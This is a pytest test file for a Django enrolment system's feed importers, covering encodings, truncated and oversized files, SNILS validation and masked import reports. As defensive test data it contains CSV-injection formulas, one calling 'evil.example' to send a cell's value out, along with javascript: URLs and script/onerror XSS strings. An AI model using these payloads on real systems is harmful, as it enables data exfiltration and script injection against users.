"""Hostile and broken feed files (issue #9; checklist IMP-03, IMP-04, IMP-05, IMP-06, R12): cp1251,
a BOM with `;`, truncated files, a 10 MB cell, formula cells (stored as text, neutralised when
exported), `javascript:` and markup where a name belongs, a bad SNILS — and the ImportRun's row
report: complete, with personal data masked, visible to the operator's staff only."""
import csv
import io
import json
import time
import tracemalloc

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.groups import operator_group
from core import exports
from core.imports import MAX_CELL, mask_personal
from core.models import ExportJob, ImportRun
from enrollment.models import Application, ApplicationEvent, Citizen
from enrollment.services.feed import rr_import
from programs.models import Program
from programs.services.odin import odin_import
from tests.enrollment.factories import ApplicationFactory, CitizenFactory, valid_snils
from tests.enrollment.test_feed_applications import HEADER, feed_file, row
from tests.programs.factories import CohortFactory, ProgramFactory
from tests.programs.test_odin_programs import COLUMNS as ODIN_COLUMNS
from tests.programs.test_odin_programs import program_row

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Открыть")', "+79135550000", "-1+2", "@SUM(A1:A3)"]


@pytest.fixture
def program(db):
    program = ProgramFactory(odin_id="p-1")
    CohortFactory(program=program, odin_id="c-1")
    return program


def odin_file(rows: list[dict], delimiter: str = ",") -> str:
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=ODIN_COLUMNS, delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def errors(result) -> list[tuple[int, str, str]]:
    return [(e.row, e.column, e.reason) for e in result.errors]


# Encodings, BOM, delimiters, truncation (IMP-04) ---------------------------------------------

def test_a_windows_1251_semicolon_file_imports_whole_in_both_feeds(program, partner_a):
    text = feed_file(row(1, last="Ёлкина", first="Алёна"), row(2)).decode().replace(",", ";")
    result = rr_import(kind="applications", source=text.encode("cp1251"))
    assert (result.exit_code, result.counts["created"]) == (0, 2), result.errors
    assert Citizen.objects.filter(last_name="Ёлкина", first_name="Алёна").exists()

    odin = odin_file([program_row(partner_a, "p-9", title="Сварщик (ручная дуговая сварка)")], delimiter=";")
    result = odin_import(kind="programs", source=odin.encode("cp1251"))
    assert (result.exit_code, Program.objects.get(odin_id="p-9").title) == (0, "Сварщик (ручная дуговая сварка)")


def test_a_bom_crlf_tab_file_imports_and_the_bom_is_not_part_of_the_first_column(program):
    text = "\ufeff" + feed_file(row(1)).decode().replace(",", "\t").replace("\n", "\r\n")
    result = rr_import(kind="applications", source=text.encode("utf-8"))
    assert (result.exit_code, result.counts["created"]) == (0, 1), result.errors
    assert Application.objects.get().rr_number == "РР-2026-000001"


@pytest.mark.parametrize("cut", [
    pytest.param(lambda text: text[:text.rindex(",p-1,")], id="mid-row"),
    pytest.param(lambda text: text[:text.rindex(",c3@")] + ',"c3@exam', id="inside-an-open-quote"),
])
def test_a_truncated_file_imports_its_whole_rows_and_reports_the_cut_one(program, cut):
    text = cut(feed_file(row(1), row(2), row(3)).decode())
    result = rr_import(kind="applications", source=text.encode())
    assert (result.exit_code, result.counts["created"], result.counts["rejected"]) == (3, 2, 1)
    assert {e.row for e in result.errors} == {4}
    assert not Application.objects.filter(rr_number="РР-2026-000003").exists()
    assert ImportRun.objects.get().status == ImportRun.Status.COMPLETED_WITH_ERRORS


@pytest.mark.parametrize("data", [b"", b"\xff\xfe" + "код".encode("utf-16-le"), b"PK\x03\x04\x00\x00binary",
                                  b"\x89PNG\r\n\x1a\n\x00\x00", HEADER.encode()[:20]])
def test_an_unusable_file_is_refused_whole_and_its_run_says_why(program, data):
    result = rr_import(kind="applications", source=data, name="broken.csv")
    assert result.exit_code == 1
    assert Application.objects.count() == 0
    run = ImportRun.objects.get()
    assert (run.status, run.message, run.file_name) == (ImportRun.Status.REFUSED, result.unusable, "broken.csv")


# A 10 MB cell (IMP-06) -------------------------------------------------------------------------

def test_a_10_mb_cell_rejects_its_row_only_with_bounded_memory(program):
    huge = "Я" * (5 * 1024 * 1024)  # 10 MB in UTF-8
    data = feed_file(row(1), row(2, last=huge), row(3))
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = rr_import(kind="applications", source=data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    elapsed = time.perf_counter() - started
    print(f"10 MB cell: {elapsed:.2f} s, peak {peak / 2**20:.0f} MiB traced for a {len(data) / 2**20:.0f} MiB file")
    assert (result.exit_code, result.counts["created"]) == (3, 2)
    assert errors(result) == [(3, "last_name", f"Значение длиннее {MAX_CELL} символов: строка не импортирована.")]
    assert not Citizen.objects.filter(last_name__startswith="ЯЯЯ").exists()
    # A few copies of the file (the bytes, the text — two bytes a character for Cyrillic —, the
    # parsed cell in each of the two passes), never per-row growth; the 50 MB cap bounds it all.
    assert peak < 10 * len(data), f"peak {peak} for a file of {len(data)}"
    run = ImportRun.objects.get()
    assert run.errors == [[3, "last_name", f"Значение длиннее {MAX_CELL} символов: строка не импортирована."]]


def test_a_json_lines_file_with_a_huge_value_rejects_that_line(program):
    values = dict(zip(HEADER.split(","), next(csv.reader([row(1)])), strict=True))
    lines = [json.dumps({**values, "last_name": "x" * (MAX_CELL + 1)}), json.dumps({**values, "rr_number": "РР-2"})]
    result = rr_import(kind="applications", source="\n".join(lines).encode(), name="feed.jsonl")
    assert errors(result) == [(1, "last_name", f"Значение длиннее {MAX_CELL} символов: строка не импортирована.")]
    assert result.counts["created"] == 1


# Formula cells: stored as text, neutralised on export (EXP-01, R12) ---------------------------

def test_formula_cells_are_stored_as_text_and_escaped_in_the_csv_and_xlsx_exports(partner_a, operator_reviewer):
    rows = [program_row(partner_a, f"p-{n}", title=formula, short_title=formula)
            for n, formula in enumerate(FORMULAS, start=1)]
    result = odin_import(kind="programs", source=odin_file(rows).encode())
    assert (result.exit_code, result.counts["created"]) == (0, len(FORMULAS)), result.errors
    assert sorted(Program.objects.values_list("title", flat=True)) == sorted(FORMULAS)  # text, as sent

    def export(fmt: str) -> bytes:
        job = exports.export_start(user=operator_reviewer, kind="programs.programs", params={}, format=fmt)
        exports.export_build(job_id=job.pk)
        job = ExportJob.objects.get(pk=job.pk)
        assert job.status == ExportJob.Status.READY, job.error
        with default_storage.open(job.file.name, "rb") as fh:
            return fh.read()

    lines = list(csv.reader(io.StringIO(export("csv").decode("utf-8-sig"), newline=""), delimiter=";"))
    assert sorted(line[0] for line in lines[1:]) == sorted("'" + f for f in FORMULAS)
    sheet = load_workbook(io.BytesIO(export("xlsx"))).active
    titles = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
    assert all(cell.data_type == "s" for cell in titles)
    assert sorted(cell.value for cell in titles) == sorted("'" + f for f in FORMULAS)


def test_a_formula_in_an_event_comment_is_kept_as_text_in_the_history(program):
    ApplicationFactory(rr_number="РР-1", program=program, status=Application.Status.STUDYING)
    data = ("rr_number,event,occurred_at,details\n"
            'РР-1,service_terminated,2026-03-10T09:00:00+03:00,"=HYPERLINK(""http://evil"",""x"")"\n').encode()
    assert rr_import(kind="events", source=data).counts["updated"] == 1
    assert ApplicationEvent.objects.get().comment == '=HYPERLINK("http://evil","x")'


# Script URLs and markup where a name belongs (IMP-05) ------------------------------------------

@pytest.mark.parametrize(("column", "value"), [
    ("last", "javascript:alert(1)"), ("first", "<script>alert(1)</script>"), ("middle", "<img src=x onerror=alert(1)>"),
    ("last", '=HYPERLINK("http://evil")'), ("first", "Иван1"),
])
def test_a_script_url_markup_or_formula_in_a_name_is_refused(program, column, value):
    result = rr_import(kind="applications", source=feed_file(row(1, **{column: value})))
    field = {"last": "last_name", "first": "first_name", "middle": "middle_name"}[column]
    assert errors(result) == [(2, field, f"Недопустимые символы в имени «{value}»: допустимы буквы, пробел, дефис, "
                                         "апостроф и точка.")]
    assert Citizen.objects.count() == 0


def test_real_names_pass(program):
    names = [("Ёлкина-Щукина", "Анна Мария", ""), ("O'Brien", "Sean", ""), ("Ли", "Хён.", "")]
    rows = [row(n, last=last, first=first, middle=middle) for n, (last, first, middle) in enumerate(names, start=1)]
    result = rr_import(kind="applications", source=feed_file(*rows))
    assert (result.exit_code, result.counts["created"]) == (0, 3), result.errors


# SNILS (IMP-04) ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("snils", "reason"), [
    ("112-233-445 96", "Неверный СНИЛС: не сходится контрольное число."),
    ("1122334459", "Неверный СНИЛС: нужно 11 цифр."),
    ("СНИЛС", "Неверный СНИЛС: нужно 11 цифр."),
])
def test_a_bad_snils_is_refused_with_its_reason(program, snils, reason):
    result = rr_import(kind="applications", source=feed_file(row(1, snils=snils)))
    assert errors(result) == [(2, "snils", reason)]


# The run's report (IMP-03) ----------------------------------------------------------------------

def test_the_run_stores_every_bad_row_with_its_number_and_personal_data_masked(program):
    CitizenFactory(snils=valid_snils(50), email="taken@example.org")
    data = feed_file(row(1), row(2, snils="112-233-445 96"), row(3, email="taken@example.org"),
                     row(4, birth="2030-01-01"), row(5))
    result = rr_import(kind="applications", source=data, initiator="admin (fo@example.org)")
    run = ImportRun.objects.get()
    assert (run.created, run.rejected, run.errors_total) == (2, 3, 3)
    assert [(r, c) for r, c, _reason in run.errors] == [(3, "snils"), (4, "email"), (5, "birth_date")]
    assert run.errors[1][2].startswith("E-mail «t***@example.org» уже указан у гражданина с другим СНИЛС")
    assert "taken@" not in str(run.errors)
    assert result.errors[1].reason.startswith("E-mail «taken@example.org»")  # the sender's own report is whole


def test_masking_keeps_numbers_that_are_not_personal():
    assert mask_personal("СНИЛС 112-233-445 95, тел. +7 913 555-00-00, заявка РР-2026-000001, "
                         "ivan.petrov@mail.ru") == (
        "СНИЛС ***-***-*** 95, тел. +* *** ***-**-00, заявка РР-2026-000001, i***@mail.ru")


def test_the_run_and_its_report_are_shown_to_the_operators_staff_and_not_to_a_partner(
        client, program, operator_reviewer, staff_a):
    rr_import(kind="applications", source=feed_file(row(1, snils="112-233-445 96")))
    run = ImportRun.objects.get()
    operator_reviewer.groups.add(operator_group())  # as the operator's reviewers are set up
    url = reverse("admin:core_importrun_change", args=[run.pk])
    client.force_login(operator_reviewer)
    page = client.get(url)
    assert page.status_code == 200
    assert "Неверный СНИЛС" in page.content.decode()
    assert client.get(reverse("admin:core_importrun_changelist")).status_code == 200
    client.force_login(staff_a)
    assert client.get(url).status_code == 302  # partners have no admin: to the login page
    assert client.get(reverse("admin:core_importrun_changelist")).status_code == 302


def test_an_admin_import_records_its_user_and_the_preview_records_nothing(client, program, operator_reviewer):
    client.force_login(operator_reviewer)
    url = reverse("admin:enrollment_application_rr_import")
    upload = SimpleUploadedFile("rr.csv", feed_file(row(1)), content_type="text/csv")
    preview = client.post(url, {"kind": "applications", "file": upload})
    assert ImportRun.objects.count() == 0  # a dry run is not a delivery
    client.post(url, {"token": preview.context["token"]})
    run = ImportRun.objects.get()
    assert (run.initiator, run.initiator_label, run.status, run.created) == (
        operator_reviewer, "admin (fo@example.org)", ImportRun.Status.COMPLETED, 1)


def test_a_200_mb_file_is_refused_before_it_is_read(program, tmp_path, monkeypatch):
    path = tmp_path / "huge.jsonl"
    with path.open("wb") as fh:  # sparse: 200 MB on paper, nothing on disk
        fh.truncate(200 * 1024 * 1024)
    read = []
    monkeypatch.setattr(type(path), "read_bytes", lambda self: read.append(self) or b"")
    result = rr_import(kind="applications", source=path)
    assert result.unusable == "Файл слишком большой: 200 МБ, допустимо не больше 50 МБ; разделите его на части."
    assert read == []
    assert ImportRun.objects.get().status == ImportRun.Status.REFUSED


# 500,000 rows (IMP-06) ---------------------------------------------------------------------------

def test_a_500k_row_file_is_refused_up_front_in_bounded_time_and_memory(program):
    """Flow's declared bound: a file of more than MAX_ROWS rows (or MAX_BYTES) is refused before a
    row is imported (the sender splits it), so a feed's memory and time never grow with its length."""
    from core.imports import MAX_ROWS

    data = (HEADER + "\n").encode() + b"x,,,,,,,,,,,,\n" * 500_000
    tracemalloc.start()
    started = time.perf_counter()
    try:
        result = rr_import(kind="applications", source=data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    elapsed = time.perf_counter() - started
    print(f"500k rows ({len(data) / 2**20:.0f} MiB): refused in {elapsed:.2f} s, peak {peak / 2**20:.0f} MiB traced")
    assert result.unusable
    assert f"{MAX_ROWS:,}".replace(",", " ") in result.unusable or str(MAX_ROWS) in result.unusable.replace(" ", "")
    assert result.counts.get("created", 0) == 0
    assert not Citizen.objects.exists()
    assert elapsed < 30
    assert peak < 6 * len(data)
